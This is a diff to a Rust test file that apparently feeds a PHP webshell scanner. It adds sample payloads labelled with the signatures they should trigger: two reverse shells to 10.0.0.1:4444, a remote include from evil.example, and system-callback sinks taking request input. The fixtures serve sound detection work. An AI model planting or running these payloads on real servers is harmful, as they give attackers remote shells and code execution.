@@ -112,6 +112,31 @@ fn samples() -> Vec<Sample> {
             Some("signature create-function"),
         ),
         php(
+            "revshell.php",
+            "<?php $s = fsockopen('10.0.0.1', 4444); exec('/bin/sh -i <&3 >&3 2>&3');",
+            Some("signature reverse-shell"),
+        ),
+        php(
+            "devtcp.php",
+            "<?php shell_exec('bash -c \"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\"');",
+            Some("signature reverse-shell"),
+        ),
+        php(
+            "rfi.php",
+            "<?php include 'http://evil.example/shell.txt';",
+            Some("signature remote-include"),
+        ),
+        php(
+            "filtercb.php",
+            "<?php filter_var($_REQUEST['c'], FILTER_CALLBACK, array('options' => 'system'));",
+            Some("signature callback-to-sink"),
+        ),
+        php(
+            "mbereg.php",
+            "<?php mb_ereg_replace('.*', $_REQUEST['c'], '', 'e');",
+            Some("signature callback-to-sink"),
+        ),
+        php(
             "gz.php",
             "<?php eval(gzinflate(base64_decode('80jNycnXUSjPL8pJUQQA')));",
             Some("signature eval-decoded"),
